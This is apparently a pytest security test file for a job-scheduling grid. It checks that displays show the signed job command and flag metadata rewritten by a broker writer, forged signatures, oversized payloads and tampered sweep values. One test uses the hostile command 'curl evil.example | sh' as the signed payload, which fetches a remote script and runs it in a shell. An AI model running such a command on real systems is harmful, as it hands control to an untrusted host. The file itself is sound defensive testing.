"""What people see is what was signed: the envelope's command (and sweep values), verified here,
and a meta that disagrees with it flagged, in `grid show`, `grid ls`, the console and the sweep grid."""

from __future__ import annotations

import json
import uuid
import zlib

import pytest

from console.screens.detail import job_fields
from console.screens.sweep import cell_row
from gridcore import keys
from gridcore.models import JobSpec
from tests.security import forge
from tests.support.cli import call_cli


@pytest.fixture(autouse=True)
def broker_url(settings, monkeypatch):
    monkeypatch.setenv("GRID_REDIS_URL", settings.redis_url)


def rewrite_meta(r, jid: str, **fields) -> None:
    """What a broker writer does to the unsigned part of a job's record."""
    meta = json.loads(r.hget(keys.rq_job(jid), "meta"))
    meta.update(fields)
    r.hset(keys.rq_job(jid), "meta", json.dumps(meta))


def test_a_meta_rewritten_to_a_harmless_command_shows_the_signed_one_flagged(capsys, r, grid):
    jid = grid.submit(JobSpec(command="curl evil.example | sh"))
    rewrite_meta(r, jid, command="echo harmless", name="echo harmless")
    job = grid.get(jid)
    assert job.command == "curl evil.example | sh" and job.name == "curl evil.example | sh"
    assert job.signature == "verified: tester@suite"
    assert any("command 'echo harmless' is not the signed command" in p for p in job.problems)
    code, out, _ = call_cli(capsys, "show", jid)
    assert code == 0 and "curl evil.example | sh" in out and "verified: tester@suite" in out
    assert "echo harmless' is not the signed command" in out
    code, out, _ = call_cli(capsys, "ls", "--json")
    assert [j["command"] for j in json.loads(out)["jobs"]] == ["curl evil.example | sh"]
    shown = job_fields(job, grid.broker_time()).plain
    assert "curl evil.example | sh" in shown and "verified: tester@suite" in shown and "not the signed command" in shown


def test_an_envelope_no_trusted_key_signed_is_shown_not_verified(r, grid, tmp_path):
    jid = uuid.uuid4().hex
    mallory = forge.stranger(tmp_path / "mallory")
    forge.signed_job(r, mallory.sign(forge.envelope(grid, "echo from mallory", jid)), jid)
    job = grid.get(jid)
    assert job.command == "echo from mallory"
    assert job.signature.startswith("NOT verified: signing key") and "neither authorized here nor yours" in job.signature


def test_a_payload_too_large_to_be_an_envelope_is_not_read(r, grid):
    jid = grid.submit(JobSpec(command="true"))
    r.hset(keys.rq_job(jid), "data", zlib.compress(b" " * (8 << 20)))  # 8 MB from a few KB
    job = grid.get(jid)
    assert job.signature.startswith("NOT verified: the payload is unreadable")


def test_sweep_values_rewritten_in_meta_show_as_signed_and_the_cell_is_flagged(r, grid):
    jid = grid.submit(JobSpec(command="train --lr $GRID_SWEEP_LR", env={"GRID_SWEEP_LR": "0.1"},
                              params={"lr": 0.1, "_cell": 3}, group="g1"))
    assert grid.get(jid).params["lr"] == 0.1 and not grid.get(jid).problems
    rewrite_meta(r, jid, params={"lr": 0.5, "_cell": 3})
    job = grid.get(jid)
    assert job.params["lr"] == "0.1" and any("params.lr '0.5' is not the signed value '0.1'" in p for p in job.problems)
    assert cell_row(job, 0, ["lr"], grid.broker_time(), None)["cell"].plain == "!3"


@pytest.mark.parametrize("argument", [{"v": 1, "command": "echo bare"}, "text", None, {"envelope": 5}, {"envelope": "[1"}])
def test_any_runner_argument_reads_as_not_verified(r, grid, argument):
    jid = forge.signed_job(r, argument)
    job = grid.get(jid)
    assert job.signature.startswith("NOT verified")


def test_grid_show_keeps_one_line_per_attempt_with_its_record_trust(capsys, r, grid):
    from gridcore.records import Attempt
    from tests.engine.test_retries import attempt_rows

    jid = grid.submit(JobSpec(command="exit 4"))
    for _ in range(3):
        r.rpush(keys.attempts(jid), Attempt(node="node-a", exit_code=4, reason="exit code 4").encode())
    code, out, _ = call_cli(capsys, "show", jid)
    assert [row[:3] + row[-1:] for row in attempt_rows(out)] == [[str(i), "node-a", "4", "unsigned"] for i in (1, 2, 3)]
